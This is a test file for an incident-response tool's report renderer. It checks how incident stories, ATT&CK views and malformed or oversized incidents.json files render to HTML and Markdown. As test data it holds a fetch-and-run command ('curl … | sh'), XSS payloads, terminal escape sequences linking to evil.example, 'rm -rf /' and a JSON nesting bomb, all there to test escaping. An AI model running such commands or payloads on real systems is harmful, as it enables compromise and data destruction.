import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/finding.js';
import type { IncidentsFile } from '../../src/model/incident.js';
import { loadReportData } from '../../src/report/data.js';
import { renderHtml } from '../../src/report/html.js';
import { attackView, knownTechnique, SHOWN, techniquePage } from '../../src/report/incidents.js';

const SHOWN_JOINS = SHOWN.joins;
import { renderMarkdown } from '../../src/report/markdown.js';
import { tmpDirsOfThisFile } from '../helpers/bundle.js';
import { MAIN_TITLE, SCENE_FINDINGS, SECOND_TITLE, sceneIncidents } from '../helpers/incident-scene.js';

const tmp = tmpDirsOfThisFile();
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

function write(dir: string, rel: string, data: unknown): void {
  const file = path.join(dir, rel);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, typeof data === 'string' ? data : JSON.stringify(data, null, 2));
}

/** A case folder with these findings and, unless undefined, this artifacts/incidents.json (an object, or raw text). */
async function render(findings: Finding[], incidents: unknown) {
  const dir = tmp('irt-incidents-');
  write(dir, 'manifest.json', { case: 'C-1', files: [], host: { hostname: 'web1' }, startedAt: '2026-03-01T23:00:00.000Z', endedAt: '2026-03-01T23:01:00.000Z', mode: 'live', root: true });
  write(dir, 'findings.json', findings);
  if (incidents !== undefined) write(dir, 'artifacts/incidents.json', incidents);
  const d = await loadReportData(dir);
  return { d, html: renderHtml(d), md: renderMarkdown(d) };
}

/** The text of an HTML fragment, tags dropped and the entities this renderer writes decoded. */
function text(html: string): string {
  return html.replace(/<[^>]+>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
}

/** The element with this id, up to its own closing tag (sections and articles do not nest here). */
function part(html: string, id: string, tag = 'section'): string {
  const start = html.indexOf(`id="${id}"`);
  expect(start, `no element with id ${id}`).toBeGreaterThan(-1);
  return html.slice(start, html.indexOf(`</${tag}>`, start));
}

describe('the report of a bundle without incidents.json', () => {
  it('is the report as it was: no story, no incidents section, no problem named', async () => {
    const { d, html, md } = await render(SCENE_FINDINGS, undefined);
    expect(d.incidents).toBeNull();
    expect(d.unreadable).toEqual([]);
    expect(html).not.toContain('id="story"');
    expect(html).not.toContain('id="incidents"');
    expect(html).not.toContain('· incident ');
    expect(md).not.toMatch(/^## (The story|Incidents)/m);
    // The findings are all there, as before.
    for (const f of SCENE_FINDINGS) expect(html).toContain(`id="${f.id}"`);
  });
});

describe('the report of a bundle with incidents.json', () => {
  it('opens with the main incident story after the verdict, before the advice and the findings', async () => {
    const { d, html } = await render(SCENE_FINDINGS, sceneIncidents());
    expect(d.incidents?.main?.id).toBe('I-01');
    expect(d.incidents?.problems).toEqual([]);
    const header = html.indexOf('</header>');
    const story = html.indexOf('id="story"');
    expect(header).toBeGreaterThan(-1);
    expect(story).toBeGreaterThan(header);
    expect(story).toBeLessThan(html.indexOf('id="todo"'));
    expect(html.indexOf('id="incidents"')).toBeLessThan(html.indexOf('id="findings"'));
    expect(html.indexOf('id="attack"')).toBeLessThan(html.indexOf('id="findings"'));
    const s = part(html, 'story');
    expect(text(s)).toContain(MAIN_TITLE);
    // In time order, with time, tactic, sentence, evidence and findings linked to their cards.
    const rows = [...s.split('<tbody>')[1]!.matchAll(/<tr( class="gap")?>(.*?)<\/tr>/g)].map((m) => ({ gap: !!m[1], text: text(m[2]) }));
    expect(rows).toHaveLength(6);
    expect(rows[0].text).toMatch(/^2026-03-01 22:10:02 UTCCredential Access/);
    expect(rows[1].text).toContain('Initial Access');
    expect(rows[1].text).toContain('deploy logged in from 127.0.0.3 after 30 failed passwords');
    expect(rows[1].text).toContain('logs/var/log/auth.log:497');
    expect(rows[2].text).toContain('the same session ran curl -s http://203.0.113.50/x | sh');
    expect(rows[4]).toEqual({ gap: true, text: expect.stringContaining('Nothing covers this: no history covers 22:27–22:40') });
    expect(rows[5].text).toContain('Persistence');
    expect(s).toContain('<a href="#F-0001">F-0001</a>');
    expect(s).toContain('<a href="https://attack.mitre.org/techniques/T1110/001/" rel="noreferrer noopener" target="_blank">T1110.001 Brute Force: Password Guessing</a>');
    expect(s).toContain('href="#incident-I-01"');
    // The sentence's URL is text, not a link.
    expect(s).not.toContain('href="http://203.0.113.50');
  });

  it('lists the incidents with subjects, joins and their findings grouped by rule, duplicates collapsed', async () => {
    const { html } = await render(SCENE_FINDINGS, sceneIncidents());
    const section = part(html, 'incidents');
    expect(text(section)).toContain('Incidents (2)');
    const second = part(html, 'incident-I-02', 'article');
    const t = text(second);
    expect(t).toContain(`I-02 · ${SECOND_TITLE}`);
    expect(t).toContain('6 findings: 3 high, 3 medium · process 6');
    // Three masquerades are one row with a count and the three subjects; the same for the deleted executables.
    const memberRows = [...second.split('Why these belong together')[0].matchAll(/<tr>(.*?)<\/tr>/g)].map((m) => text(m[1]));
    const rowsOf = (rule: string) => memberRows.filter((r) => r.includes(rule));
    expect(rowsOf('process.masquerade')).toHaveLength(1);
    expect(rowsOf('process.masquerade')[0]).toContain('×3');
    expect(rowsOf('process.masquerade')[0]).toMatch(/pid 4100.*pid 4101.*pid 4102/);
    expect(rowsOf('process.masquerade')[0]).toContain('F-0004, F-0005, F-0006');
    expect(rowsOf('process.deleted-exe')[0]).toContain('×3');
    // The joins: why, and what they share.
    expect(t).toContain('F-0004 ↔ F-0010same processpid 4100');
    expect(t).toContain(`F-0004 ↔ F-0005same executable (sha256)${'a3'.repeat(32)}`);
    expect(t).toMatch(/pids4100 · 4101 · 4102/);
    const first = text(part(html, 'incident-I-01', 'article'));
    expect(first).toContain("F-0001 ↔ F-0007inside the session's time spandeploy 22:26:09–22:40:12");
    expect(first).toContain('6 findings: 1 critical, 3 high, 2 medium · auth 2, activity 1, network 1, persistence 1, process 1');
    expect(first).toContain('Initial Access → Execution → Persistence → Credential Access → Discovery');
    // Each finding card names its incident.
    expect(part(html, 'F-0010', 'article')).toContain('incident <a href="#incident-I-02">I-02</a>');
  });

  it('shows the ATT&CK view: the tactics seen as columns in matrix order, each technique linked to its page and its findings', async () => {
    const { html } = await render(SCENE_FINDINGS, sceneIncidents());
    const attack = part(html, 'attack');
    const columns = [...attack.matchAll(/<h4>(.*?)<\/h4>/g)].map((m) => text(m[1]));
    expect(columns).toEqual(['Initial Access', 'Execution', 'Persistence', 'Privilege Escalation', 'Defense Evasion', 'Credential Access', 'Discovery', 'Lateral Movement', 'Command and Control']);
    expect(attack).toContain('<a href="https://attack.mitre.org/techniques/T1046/" rel="noreferrer noopener" target="_blank"><b>T1046</b></a><span class="name">Network Service Discovery</span><span class="small"><a href="#F-0002">F-0002</a>, <a href="#F-0003">F-0003</a></span>');
    // T1078 (Valid Accounts) belongs to four tactics and shows under each of those seen.
    expect(attack.match(/<b>T1078<\/b>/g)).toHaveLength(4);
  });

  it('writes the same content in report.md', async () => {
    const { md } = await render(SCENE_FINDINGS, sceneIncidents());
    const story = md.indexOf('## The story: deploy logged in from 127.0.0.3');
    expect(story).toBeGreaterThan(md.indexOf('# '));
    expect(story).toBeLessThan(md.indexOf('## What to do now'));
    expect(md.indexOf('## Incidents (2)')).toBeLessThan(md.indexOf('## Findings (12)'));
    expect(md).toContain('| 2026-03-01 22:26:09 UTC | Initial Access ([T1078](https://attack.mitre.org/techniques/T1078/) Valid Accounts) | deploy logged in from 127.0.0.3 after 30 failed passwords | logs/var/log/auth.log:497 | F-0001 |');
    expect(md).toContain('| 2026-03-01 22:27:00 UTC | *gap* | *Nothing covers this: no history covers 22:27–22:40* |  |  |');
    expect(md).toContain('the same session ran curl -s http&#58;//203.0.113.50/x \\| sh');
    expect(md).toContain(`### I-02 · high · ${SECOND_TITLE.replace('.s', '.s')}`);
    expect(md).toMatch(/\| high \| Process 4100 calls itself sshd but runs \/dev\/shm\/.s\/sshd \| process.masquerade \| 3 \| pid 4100 · \/dev\/shm\/.s\/sshd; pid 4101 · [^|]+; pid 4102 · [^|]+ \| F-0004, F-0005, F-0006 \|/);
    expect(md).toContain('| F-0002 ↔ F-0003 | same process | pid 5617 |');
    expect(md).toMatch(/^## ATT&CK view$/m);
    expect(md).toMatch(/^\| Initial Access \| Execution \| Persistence \|/m);
    expect(md).toContain('Rule process.deleted-exe · ATT&CK T1070.004 · pid 4100 · /dev/shm/.s/sshd · incident I-02');
  });

  it('an empty file (no findings): an incidents section that says so, no story', async () => {
    const { d, html, md } = await render([], { version: 1, main: null, incidents: [] } satisfies IncidentsFile);
    expect(d.incidents?.problems).toEqual([]);
    expect(html).not.toContain('id="story"');
    expect(text(part(html, 'incidents'))).toContain('No incident: no finding to join.');
    expect(html).not.toContain('id="attack"');
    expect(md).toContain('No incident: no finding to join.');
  });

  it('one incident with a story of gaps only and no dated link renders, the gaps said plainly', async () => {
    const file = sceneIncidents();
    const one = { ...file.incidents[1]!, id: 'I-01', story: [{ time: null, kind: 'gap' as const, tactic: null, techniques: [], text: 'no log covers the day of the login', evidence: [], findings: [] }] };
    const { d, html, md } = await render(SCENE_FINDINGS.filter((f) => one.findings.includes(f.id)), { version: 1, main: 'I-01', incidents: [one] });
    expect(d.incidents?.problems).toEqual([]);
    const s = part(html, 'story');
    expect(s).toContain('<tr class="gap"><td class="time">undated</td><td class="tactic">gap</td><td>Nothing covers this: no log covers the day of the login</td></tr>');
    expect(text(s)).not.toContain('other incident');
    expect(md).toContain('| undated | *gap* | *Nothing covers this: no log covers the day of the login* |  |  |');
    const empty = { ...one, story: [] };
    const r = await render(SCENE_FINDINGS.filter((f) => one.findings.includes(f.id)), { version: 1, main: 'I-01', incidents: [empty] });
    expect(text(part(r.html, 'story'))).toContain('Nothing in this incident is dated or labelled with a tactic');
  });

  it('many incidents: each listed in the order of the file, the main one told', async () => {
    const file = sceneIncidents();
    const many: IncidentsFile = { version: 1, main: 'I-01', incidents: [...file.incidents] };
    const findings = [...SCENE_FINDINGS];
    for (let i = 3; i <= 30; i++) {
      const id = `F-${String(100 + i).padStart(4, '0')}`;
      findings.push({ ...SCENE_FINDINGS[7]!, id, subject: { ip: `198.51.100.${i}` }, title: `SSH brute force from 198.51.100.${i}` });
      many.incidents.push({ ...file.incidents[1]!, id: `I-${String(i).padStart(2, '0')}`, title: `Brute force from 198.51.100.${i}`, severity: 'medium', findings: [id], joins: [], story: [] });
    }
    const { d, html, md } = await render(findings, many);
    expect(d.incidents?.problems).toEqual([]);
    const ids = [...part(html, 'incidents').matchAll(/<article class="incident [a-z]+" id="incident-(I-\d+)"/g)].map((m) => m[1]);
    expect(ids).toEqual(many.incidents.map((i) => i.id));
    expect(text(part(html, 'story'))).toContain('29 other incidents below');
    expect(text(part(html, 'incident-I-30', 'article'))).toContain('One finding: nothing to join.');
    expect(md).toContain('## Incidents (30)');
  });
});

describe('an incidents.json that does not fit or does not agree with findings.json', () => {
  it('an unknown tactic: the schema refuses the file, which is named; the rest renders', async () => {
    const bad = sceneIncidents() as unknown as { incidents: Array<{ tactics: string[] }> };
    bad.incidents[0].tactics[0] = 'initial-acess';
    const { d, html, md } = await render(SCENE_FINDINGS, bad);
    expect(d.incidents).toBeNull();
    expect(d.unreadable).toHaveLength(1);
    expect(d.unreadable[0]).toMatch(/^artifacts\/incidents\.json.*tactics/);
    expect(html).toContain('Could not read: <code>artifacts/incidents.json');
    expect(html).not.toContain('id="story"');
    for (const f of SCENE_FINDINGS) expect(html).toContain(`id="${f.id}"`);
    expect(md).toContain('> Could not read: artifacts/incidents.json');
  });

  it('not JSON, another version, a story link of an unknown tactic: each named, none crashes', async () => {
    for (const [file, why] of [
      ['{"version":1,', /^artifacts\/incidents\.json/],
      [{ ...sceneIncidents(), version: 2 }, /^artifacts\/incidents\.json \(version 2; this ir-triage reads version 1\)$/],
      [{ ...sceneIncidents(), incidents: [{ ...sceneIncidents().incidents[0], story: [{ ...sceneIncidents().incidents[0]!.story[0], tactic: 'T1110' }] }] }, /^artifacts\/incidents\.json.*tactic/],
      [[], /^artifacts\/incidents\.json/],
      // A nesting bomb is refused before JSON.parse sees it.
      ['['.repeat(200_000), /^artifacts\/incidents\.json.*(deep|nest)/i],
    ] as const) {
      const { d, html } = await render(SCENE_FINDINGS, file);
      expect(d.incidents).toBeNull();
      expect(d.unreadable[0]).toMatch(why);
      expect(html).toContain('id="findings"');
    }
  });

  it('members findings.json does not hold, findings in no incident or in two, a main that is not there: said, not crashed on', async () => {
    const file = sceneIncidents();
    file.main = 'I-09';
    file.incidents[0]!.findings = [...file.incidents[0]!.findings.filter((id) => id !== 'F-0009'), 'F-0099', 'F-0004'];
    file.incidents[0]!.joins.push({ a: 'F-0003', b: 'F-0099', reason: 'same-folder', value: '/tmp/.. ' });
    file.incidents[0]!.story[0]!.findings.push('F-0098');
    const { d, html, md } = await render(SCENE_FINDINGS, file);
    expect(d.incidents?.main?.id).toBe('I-01');
    expect(d.incidents?.problems).toEqual([
      'I-01 names a finding that findings.json does not hold: F-0099',
      'a finding is in more than one incident: F-0004 (I-01, I-02)',
      'a finding is in no incident: F-0009',
      'the main incident, I-09, is not in the file; the first, I-01, is shown first',
    ]);
    const incidents = part(html, 'incidents');
    expect(incidents).toContain('incidents.json and findings.json do not agree.');
    expect(incidents).toContain('<span class="missing" title="not in findings.json">F-0099 (not in findings.json)</span>');
    expect(text(incidents)).toContain('F-0003 ↔ F-0099 (not in findings.json)same folder');
    expect(text(incidents)).toContain('In no incident: F-0009');
    expect(text(part(html, 'story'))).toContain('F-0098 (not in findings.json)');
    expect(md).toContain('> - I-01 names a finding that findings.json does not hold: F-0099');
    expect(md).toContain('Also named, not in findings.json: F-0099');
  });
});

describe('text from incidents.json is data', () => {
  const ESC = '\x1b[31mRED\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07\x9b2J\u202e';
  const HTML = '<script>alert(1)</script><img src=x onerror=alert(2)>';
  const MD = '[login](http://evil.example/x) `rm -rf /` ![i](http://evil.example/i.png) www.evil.example | row';
  const HOSTILE = `${ESC}${HTML}${MD}`;

  function hostileFile(): unknown {
    const file = sceneIncidents();
    const inc = file.incidents[0]!;
    inc.id = `I-01${HOSTILE}`;
    file.main = inc.id;
    inc.title = HOSTILE;
    inc.first = HOSTILE;
    inc.subjects = { pids: [1], paths: [HOSTILE], folders: [HOSTILE], addresses: [HOSTILE], accounts: [HOSTILE], sha256: [HOSTILE] };
    inc.joins = [{ a: 'F-0001', b: `F-0002${HOSTILE}`, reason: HOSTILE as 'same-file', value: HOSTILE }];
    inc.story = [{ time: HOSTILE, kind: 'event', tactic: 'execution', techniques: [HOSTILE, 'javascript:alert(1)', 'T1046'], text: HOSTILE, evidence: [HOSTILE], findings: [HOSTILE] }];
    inc.findings = [...inc.findings, HOSTILE];
    return file;
  }

  it('HTML: no element, no link but to attack.mitre.org and the page itself, no control character', async () => {
    const findings = SCENE_FINDINGS.map((f, i) => (i === 0 ? { ...f, mitre: [...f.mitre, HOSTILE, 'constructor', '__proto__', 'toString'] } : f));
    const { d, html } = await render(findings, hostileFile());
    expect(d.incidents?.main?.title).toBe(HOSTILE);
    expect(CONTROL.exec(html)).toBeNull();
    expect(html).not.toMatch(/<script|<img/i);
    for (const m of html.matchAll(/(href|src)="([^"]*)"/g)) expect(m[2], m[0]).toMatch(/^(#|https:\/\/attack\.mitre\.org\/techniques\/T\d{4}(\/\d{3})?\/$)/);
    const s = part(html, 'story');
    expect(s).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(s).toContain('\\x1b[31mRED');
    // A technique id that is not one is shown, not linked; ids of Object's prototype are unknown techniques.
    expect(text(s)).toContain('javascript:alert(1)');
    const attack = text(part(html, 'attack'));
    expect(attack).toContain("not in this ir-triage's table");
    expect(attack).toMatch(/constructor.*F-0001/);
  });

  it('Markdown: escaped, no link but to attack.mitre.org, no code span, no control character', async () => {
    const { md } = await render(SCENE_FINDINGS, hostileFile());
    expect(CONTROL.exec(md)).toBeNull();
    expect(md).not.toMatch(/(^|[^\\])</m);
    expect(md).not.toMatch(/(^|[^\\])`/m);
    expect(md).not.toMatch(/https?:\/\/evil|www\.evil/);
    for (const m of md.matchAll(/(^|[^\\])\]\(([^)]*)\)/gm)) expect(m[2]).toMatch(/^https:\/\/attack\.mitre\.org\/techniques\/T\d{4}(\/\d{3})?\/$/);
    // A | of the box never splits a table row: every row of the story table has its five cells.
    const storyRows = md.split('## The story')[1]!.split('## What to do now')[0]!.split('\n').filter((l) => l.startsWith('|'));
    for (const row of storyRows) expect(row.split(/(?<!\\)\|/).length, row).toBe(7);
  });
});

describe('the ATT&CK view of findings', () => {
  it('only the tactics seen, in matrix order; a technique under each of its tactics; ids it does not know apart', () => {
    const view = attackView([
      { ...SCENE_FINDINGS[0]!, id: 'F-1', mitre: ['T1053.003', 'T9999', 'T1110.999'] },
      { ...SCENE_FINDINGS[0]!, id: 'F-2', mitre: ['T1053.003', 'T1053.003', 'hasOwnProperty'] },
    ]);
    expect(view.columns.map((c) => c.tactic)).toEqual(['execution', 'persistence', 'privilege-escalation', 'credential-access']);
    expect(view.columns[0]!.techniques).toEqual([{ id: 'T1053.003', name: 'Scheduled Task/Job: Cron', url: 'https://attack.mitre.org/techniques/T1053/003/', findings: ['F-1', 'F-2'] }]);
    // A sub-technique the table lacks takes its parent's name and tactics.
    expect(view.columns[3]!.techniques[0]).toMatchObject({ id: 'T1110.999', name: 'Brute Force' });
    expect(view.unknown.map((c) => [c.id, c.url])).toEqual([['T9999', 'https://attack.mitre.org/techniques/T9999/'], ['hasOwnProperty', null]]);
    expect(knownTechnique('constructor')).toBeUndefined();
    expect(knownTechnique('__proto__.x')).toBeUndefined();
    expect(techniquePage('T1046/../../x')).toBeNull();
  });
});

describe('incident sections at scale', () => {
  it('shows a bounded number of ids, subjects and joins per place, and counts the rest', async () => {
    const { few, SHOWN } = await import('../../src/report/incidents.js');
    expect(few([1, 2, 3], 5, String, ', ')).toBe('1, 2, 3');
    expect(few([1, 2, 3], 3, String, ', ')).toBe('1, 2, 3');
    expect(few(Array.from({ length: 3000 }, (_, i) => i), SHOWN.ids, String, ', ')).toBe(`${Array.from({ length: SHOWN.ids }, (_, i) => i).join(', ')}, … and 2,988 more`);
    expect(few([], 2, String, ', ')).toBe('');
  });

  it('renders a campaign of 3,000 brute-forcing addresses without 3,000 ids in any one place', async () => {
    const n = 3000;
    const findings: Finding[] = Array.from({ length: n }, (_, i) => ({
      id: `F-${String(i + 1).padStart(4, '0')}`,
      rule: 'auth.bruteforce',
      severity: 'medium',
      title: `Brute force from 10.${i >> 8}.${i & 255}.1`,
      detail: 'many failures',
      mitre: ['T1110.001'],
      subject: { ip: `10.${i >> 8}.${i & 255}.1` },
      evidence: ['files/logs/var/log/auth.log'],
    }));
    const ids = findings.map((f) => f.id);
    const incidents: IncidentsFile = {
      version: 1,
      main: 'I-01',
      incidents: [
        {
          id: 'I-01',
          title: `Brute force from ${n} addresses (no login)`,
          severity: 'medium',
          findings: ids,
          subjects: { pids: [], paths: [], folders: [], addresses: findings.map((f) => String(f.subject.ip)), accounts: [], sha256: [] },
          joins: ids.slice(1).map((id) => ({ a: 'F-0001', b: id, reason: 'attack-only', value: 'no login' })),
          tactics: ['credential-access'],
          first: '2026-03-01T22:00:00.000Z',
          last: '2026-03-01T23:00:00.000Z',
          story: [{ time: '2026-03-01T22:00:00.000Z', kind: 'event', tactic: 'credential-access', techniques: ['T1110.001'], text: `${n} addresses failed`, evidence: [], findings: ids }],
        },
      ],
    };
    const { html, md } = await render(findings, incidents);
    for (const out of [part(html, 'story'), part(html, 'incidents'), part(html, 'attack')]) {
      expect(out).toContain('… and ');
      expect((out.match(/href="#F-/g) ?? []).length).toBeLessThan(200);
    }
    expect(html).toContain(`… and ${(n - 1 - SHOWN_JOINS).toLocaleString('en-US')} more joins`);
    const mdIncidents = md.slice(md.indexOf('## Incidents'), md.indexOf('## Findings'));
    expect(mdIncidents.split('\n').length).toBeLessThan(200);
    expect(mdIncidents).toContain('more joins');
  });
});
